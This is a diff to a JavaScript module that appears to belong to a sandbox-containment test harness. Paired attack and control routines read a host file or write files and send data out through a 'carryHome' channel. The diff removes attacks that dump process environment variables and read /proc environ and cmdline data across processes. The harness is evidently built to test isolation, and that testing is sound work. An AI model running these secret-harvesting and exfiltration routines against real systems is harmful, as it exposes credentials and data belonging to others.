@@ -1,7 +1,7 @@
 /** Attempts to find something on the host and bring it home by the way that is allowed, or to do something to the host. */
 import { spawn } from 'node:child_process';
 import { once } from 'node:events';
-import { mkdirSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
 import { all, carryHome } from './wire.mjs';
@@ -15,28 +15,13 @@ export async function carryLoot(targets, text) {
   await all(words.map((word) => carryHome(targets, word)));
 }
 
-/** A file of every process that /proc shows, those that cannot be read left out. */
-export function ofAllProcesses(file) {
-  const read = (pid) => {
-    try {
-      return readFileSync(`/proc/${pid}/${file}`, 'latin1');
-    } catch {
-      return '';
-    }
-  };
-  return readdirSync('/proc')
-    .filter((name) => /^\d+$/.test(name))
-    .map(read)
-    .join('\n');
-}
-
 function write(path, nonce) {
   mkdirSync(dirname(path), { recursive: true });
   writeFileSync(path, nonce);
 }
 
 /** A process of the bottle's own that has a word in its arguments and its environment, for as long as this takes. */
-export async function withOwnProcess(word, use) {
+async function withOwnProcess(word, use) {
   const child = spawn('sh', ['-c', 'read -r line', word], {
     env: { WORD: word },
     stdio: ['pipe', 'ignore', 'ignore'],
@@ -48,14 +33,6 @@ export async function withOwnProcess(word, use) {
     child.kill('SIGKILL');
   }
 }
-
-/** What lies in the bottle is found and carried home, by the code that looks for what lies on the host. */
-const findingOwn = (file) => async (t, nonce) =>
-  await withOwnProcess(nonce, async () => {
-    const text = ofAllProcesses(file);
-    if (!text.includes(nonce)) throw new Error('an own process is not seen');
-    await carryHome(t, nonce);
-  });
 
 async function readOwnFile(t, nonce) {
   const path = join(mkdtempSync(join(tmpdir(), 'own-')), 'file');
@@ -83,18 +60,6 @@ export const LOOT = {
   'read-file': {
     attack: async (t) => await carryLoot(t, readFileSync(t.lootPath, 'utf8')),
     control: readOwnFile,
-  },
-  environment: {
-    attack: async (t) => await carryLoot(t, JSON.stringify(process.env)),
-    control: async (t, nonce) => await carryHome(t, { ...process.env, WORD: nonce }.WORD),
-  },
-  'proc-environ': {
-    attack: async (t) => await carryLoot(t, ofAllProcesses('environ')),
-    control: findingOwn('environ'),
-  },
-  'proc-cmdline': {
-    attack: async (t) => await carryLoot(t, ofAllProcesses('cmdline')),
-    control: findingOwn('cmdline'),
   },
   'write-file': { attack: async (t, nonce) => write(t.writePath, nonce), control: writeOwn },
   'write-tmp': { attack: async (t, nonce) => write(t.tmpPath, nonce), control: writeOwn },
